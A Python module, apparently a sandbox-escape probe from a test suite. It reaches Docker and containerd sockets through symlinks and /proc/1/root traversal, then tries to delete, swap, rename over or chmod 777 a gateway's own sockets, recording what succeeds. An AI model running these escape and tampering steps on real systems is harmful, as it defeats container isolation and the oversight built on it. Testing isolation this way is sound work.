"""Leads links to the engine's socket and to the sockets of others, and puts its own in the place of the gateway's."""

import os
import socket
from contextlib import suppress

ENGINE = ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock")
WAYS = ("", "/proc/1/root", "/proc/self/root/..", "/run/hearth/../../..", "/.hearth/../..")


def attack():
    got = []
    for number, target in enumerate(way + path for way in WAYS for path in ENGINE):
        link = f"/tmp/{os.getpid()}-{number}.sock"
        os.symlink(target, link)
        sock = socket.socket(socket.AF_UNIX)
        try:
            sock.connect(link)
            got.append(target)
        except OSError:
            pass
        os.unlink(link)
    for path in ("/run/hearth/calls.sock", "/run/hearth/log.sock", "/.hearth/init", "/run/hearth/new.sock"):
        for change, words in (
            (os.unlink, (path,)),
            (os.symlink, (ENGINE[0], path)),
            (os.rename, ("/tmp", path)),
            (os.chmod, (path, 0o777)),
            (os.utime, (path,)),
        ):
            try:
                change(*words)
                got.append(f"changed {path}")
            except OSError:
                pass
    with suppress(OSError):
        got += [name for name in os.listdir("/run/hearth") if name not in ("calls.sock", "log.sock")]
    return got
